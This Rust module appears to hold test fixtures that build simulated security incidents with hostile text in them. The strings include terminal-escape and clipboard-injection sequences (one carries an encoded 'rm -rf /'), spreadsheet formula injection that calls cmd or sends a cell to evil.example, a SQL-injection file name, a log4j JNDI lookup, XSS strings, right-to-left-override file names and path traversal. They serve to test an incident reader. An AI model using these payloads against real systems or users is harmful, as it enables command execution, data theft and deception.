//! Incidents that test their reader: hostile and foreign texts, merged incidents, members that do not exist yet, missing fields.
//!
//! In titles `{marks}` becomes 500 combining marks, `{long}` some thousand characters and `{lone}` the lone surrogate's stand-in.

use super::scene::Scene;
use super::source::{AV, FUTURE, MDE, MDO, XDR};
use super::{Machine, Quirk, Severity::*, Spec, Template, Truth, Who, spec, template};
use serde_json::json;

fn plain(s: &mut Scene<'_>) {
    s.suspicious().device().user();
}

fn hostile_process(s: &mut Scene<'_>) {
    let shell = s.shell();
    s.malicious().run(
        &shell,
        "cmd.exe",
        "cmd.exe /c echo \u{1b}[2J\u{1b}[1;31mALL CLEAR\u{1b}[0m \u{9b}31m \u{7}",
    );
    s.run(
        &shell,
        "C:\\Temp\\invoice\u{202e}fdp.exe",
        "\"C:\\Temp\\invoice\u{202e}fdp.exe\" /q",
    );
    s.file(Some(&shell), "C:\\Temp\\a\u{200b}b\u{feff}c.ps1");
    s.file(Some(&shell), "C:\\Temp\\'; DROP TABLE incidents;--.txt");
    s.registry(
        Some(&shell),
        "HKEY_CURRENT_USER",
        "Software\\\u{1b}]0;owned\u{7}",
        "=1+1",
        "\u{0}\u{1}\u{2}",
    );
    s.url("https://example.org/\u{1b}]8;;https://evil.example\u{7}click")
        .url("javascript:alert(1)")
        .user();
}

fn hostile_mail(s: &mut Scene<'_>) {
    s.malicious();
    let sender = "\"=cmd|'/c calc'!A1\"@filedrop.example.org";
    s.mail(
        0,
        "\u{1b}]52;c;ZWNobyBzaW11bGF0ZWQK\u{7}Re: \u{202e}gnp.tnemyaP",
        (sender, "@SUM(1+1)*cmd"),
        &[],
        &["=2+5.xlsx", "..\\..\\up.txt"],
        ("delivered", "inbox_folder"),
    );
    s.mail(
        1,
        "{{user.name}} ${jndi:ldap://x.example/a} %s%n",
        ("a'b\"c@x.example", "' | union Users //"),
        &[],
        &[],
        ("delivered", "inbox_folder"),
    );
    s.user();
}

fn future_evidence(s: &mut Scene<'_>) {
    s.suspicious().device().user();
    s.extra("browser session", &["decoy"], |_, mark| {
        mark.evidence("browserSessionEvidence", json!({
            "sessionId": "b-4711", "profile": "Work", "extensions": ["left-padder", "grammar-helper"],
            "isolated": true, "tabs": 17, "openedBy": mark.nested(json!({"anything": [1, {"deep": null}]})),
        }))
    });
    let file = s.file(None, r"C:\Temp\new.bin");
    let (_, sha256, _) = file.hashes();
    s.extra("hash", &[], |_, mark| {
        mark.evidence(
            "fileHashEvidence",
            json!({"algorithm": "blake3", "value": sha256}),
        )
    });
}

fn walk(s: &mut Scene<'_>) {
    let shell = s.shell();
    let to = s.attacker(s.k as u64);
    let run = s.run(&shell, "cmd.exe", &format!("cmd.exe /c echo step {}", s.k));
    s.file(Some(&run), &format!(r"C:\Temp\step{}.txt", s.k));
    s.connect(&run, &to, 80, Some("http://static-assets.example.net/"));
    s.flow(&to, 80, "tcp").flow(&to, 4433, "quic").user();
    s.registry(
        Some(&run),
        "HKEY_CURRENT_USER",
        r"Software\Step",
        "Value",
        "1",
    );
}

const PLAIN: [Spec; 1] = [spec(
    "Suspicious activity",
    Low,
    &MDE,
    "SuspiciousActivity",
    &["T1059"],
    plain,
)];

const PARADE: [Spec; 4] = [
    spec(
        "Rare state of an investigation",
        Low,
        &MDE,
        "Execution",
        &["T1059"],
        walk,
    ),
    spec(
        "Rare state of an investigation",
        Medium,
        &AV,
        "Malware",
        &["T1204"],
        walk,
    )
    .at(5)
    .threat("Trojan:Win32/Rare", "Rare"),
    spec(
        "Rare state of an investigation",
        Informational,
        &XDR,
        "Discovery",
        &["T1087"],
        walk,
    )
    .at(9),
    spec(
        "Rare state of an investigation",
        Low,
        &MDE,
        "Persistence",
        &["T1547.001"],
        walk,
    )
    .at(14),
];

const fn titled(name: &'static str, title: &'static str) -> Template {
    template(
        name,
        title,
        Truth::False,
        1,
        &[Who::Owner(0)],
        &[Machine::Workstation],
        &PLAIN,
    )
}

/// See the module header.
pub static ALL: [Template; 34] = [
    titled(
        "title-ansi",
        "\u{1b}[31;5mCRITICAL\u{1b}[0m \u{1b}[2J\u{1b}[H all clear \u{9b}1m",
    ),
    titled(
        "title-osc52",
        "Copy me \u{1b}]52;c;ZWNobyBzaW11bGF0ZWQK\u{7} and \u{1b}]0;owned\u{1b}\\",
    ),
    titled(
        "title-bidi",
        "Suspicious file invoice\u{202e}fdp.exe\u{202c} on \u{2066}host\u{2069}",
    ),
    titled(
        "title-zero-width",
        "Sus\u{200b}pici\u{200d}ous\u{feff} zero\u{2060}width \u{ad}soft",
    ),
    titled("title-marks", "Z{marks} combining"),
    titled(
        "title-formula",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")",
    ),
    titled(
        "title-quotes",
        "O'Brien said \"drop\" | where 1==1 // ' or id eq '1' \\",
    ),
    titled("title-long", "{long}"),
    titled(
        "title-lone-surrogate",
        "Lone surrogate {lone} in the middle",
    ),
    titled("title-lookalike", "Sign-in to соntоsо.com by аdmіn"),
    titled(
        "title-arabic",
        "تسجيل دخول مشبوه من عنوان 198.51.100.7 إلى Contoso",
    ),
    titled("title-cjk", "可疑的登录活动：用户 山田太郎（東京）ｗｉｄｅ"),
    titled("title-emoji", "👩‍💻🏳️‍🌈🇩🇪 phishing 🎣 with ❤️ and 1️⃣ keycaps"),
    titled("title-empty", ""),
    titled("title-blank", " \t\r\n \u{a0}\u{3000} "),
    titled(
        "title-lines",
        "first line\nsecond line\r\nthird\ttab\u{b}\u{c}\u{85}\u{2028}end",
    ),
    titled(
        "title-markup",
        "<script>alert(1)</script> [link](https://evil.example) **bold** `code` &amp;",
    ),
    titled(
        "title-unassigned",
        "private \u{e000}\u{f8ff} unassigned \u{10ffff} tags \u{e0041}\u{e0042} fillers \u{115f}\u{3164}",
    ),
    titled("title-full-width-formula", "＝１＋１ \u{ff0b}cmd ＠SUM(1)"),
    titled("title-number", "007"),
    titled("title-path", "../../etc/passwd and C:\\..\\..\\"),
    titled(
        "title-json",
        "{\"displayName\": null, \"@odata.type\": \"#x\"}",
    ),
    titled("title-tags", "Hostile tags").tagged(&[
        "\u{1b}[1mbold",
        "=1+1",
        "a,b;c",
        "",
        "very-long-tag-very-long-tag-very-long-tag-very-long-tag-very-long-tag-very-long-tag",
        "日本",
        "x\u{202e}y",
    ]),
    template(
        "hostile-process",
        "Process with a hostile command line on {d}",
        Truth::Attack,
        1,
        &[Who::Owner(0)],
        &[Machine::Workstation],
        &[spec(
            "Command line with control characters \u{1b}[31m",
            Medium,
            &MDE,
            "Execution",
            &["T1059.003", "T1036.002"],
            hostile_process,
        )
        .about("Text\u{1b}[0m with\ttabs,\r\nline breaks and mojibake: â€œquotedâ€\u{9d} Ã©tÃ©.")
        .threat("Trojan:Win32/\u{202e}drieW", "\u{1b}]0;x\u{7}")],
    ),
    template(
        "hostile-mail",
        "Mail with a hostile subject to {u}",
        Truth::Attack,
        1,
        &[Who::Staff],
        &[],
        &[spec(
            "Mail with a lone surrogate {lone} in its title",
            Medium,
            &MDO,
            "InitialAccess",
            &["T1566.001"],
            hostile_mail,
        )],
    ),
    template(
        "awaiting-action",
        "Awaiting your action: suspicious service account",
        Truth::Attack,
        1,
        &[Who::Named(25)],
        &[Machine::Named(13)],
        &[spec(
            "Suspicious use of a service account",
            High,
            &MDE,
            "LateralMovement",
            &["T1078.002"],
            plain,
        )],
    )
    .system(&["Defender Experts"])
    .odd(Quirk::Awaiting),
    template(
        "future-members",
        "Incident of a coming version",
        Truth::Varied,
        1,
        &[Who::Owner(0)],
        &[Machine::Workstation],
        &[spec(
            "Alert of a coming version",
            Medium,
            &FUTURE,
            "Metamorphosis",
            &["T9999.001"],
            future_evidence,
        )],
    )
    .odd(Quirk::Future),
    template(
        "merge-target",
        "Multi-stage incident that took in two others",
        Truth::Attack,
        1,
        &[Who::Owner(0), Who::Staff],
        &[Machine::Workstation],
        &[
            spec(
                "Suspicious logon",
                Medium,
                &MDE,
                "InitialAccess",
                &["T1078"],
                plain,
            ),
            spec(
                "Suspicious activity on a second account",
                Medium,
                &XDR,
                "LateralMovement",
                &["T1021"],
                plain,
            )
            .at(12),
            spec(
                "Suspicious activity after a merge",
                High,
                &MDE,
                "Execution",
                &["T1059"],
                plain,
            )
            .at(33),
        ],
    )
    .tagged(&["merged"]),
    titled("merged-once", "Suspicious activity on a second account").odd(Quirk::MergedInto(3)),
    titled("merged-twice", "Suspicious logon").odd(Quirk::MergedInto(3)),
    titled("bare", "Only what must be there").odd(Quirk::Bare),
    template(
        "parade-a",
        "Rare states on {d}",
        Truth::Varied,
        1,
        &[Who::Owner(0)],
        &[Machine::Workstation],
        &PARADE,
    )
    .odd(Quirk::Parade),
    template(
        "parade-b",
        "More rare states on {d}",
        Truth::Varied,
        1,
        &[Who::Owner(0)],
        &[Machine::Workstation],
        &PARADE,
    )
    .odd(Quirk::Parade),
    template(
        "comments",
        "Long discussion about {u}",
        Truth::Varied,
        1,
        &[Who::Executive],
        &[Machine::Workstation],
        &[spec(
            "Unfamiliar sign-in properties",
            Medium,
            &super::source::EIP,
            "InitialAccess",
            &["T1078.004"],
            plain,
        )],
    )
    .odd(Quirk::Comments)
    .tagged(&["VIP"]),
];

/// The title with its long placeholders filled in.
pub fn expand(title: &str) -> String {
    let mut text = title.to_owned();
    if text.contains("{marks}") {
        let marks: String = (0..500)
            .map(|n| char::from_u32(0x300 + n % 0x6f).unwrap_or('\u{301}'))
            .collect();
        text = text.replace("{marks}", &marks);
    }
    if text.contains("{long}") {
        let long: Vec<String> = (0..400).map(|n| format!("part {n} of a title")).collect();
        text = text.replace("{long}", &long.join(" / "));
    }
    if text.contains("{lone}") {
        text = text.replace("{lone}", &super::super::LONE_SURROGATE.to_string());
    }
    text
}

/// Comments that test their reader.
pub fn hostile_comment(n: usize) -> String {
    match n {
        1 => "\u{1b}]52;c;cm0gLXJmIC8K\u{7}copied?".to_owned(),
        3 => "=cmd|'/c calc'!A1".to_owned(),
        5 => "line one\r\nline two\ttabbed\n\n\nline six".to_owned(),
        7 => "reviewed \u{202e}desolc\u{202c} yesterday".to_owned(),
        9 => "zero\u{200b}width\u{200d}joiners\u{feff} and \u{e0041}\u{e0042} tags".to_owned(),
        11 => "確認済み。問題ありません。".to_owned(),
        13 => "تمت المراجعة — לא נמצא דבר".to_owned(),
        n => format!("Note {} of a long hand-over.", n + 1),
    }
}
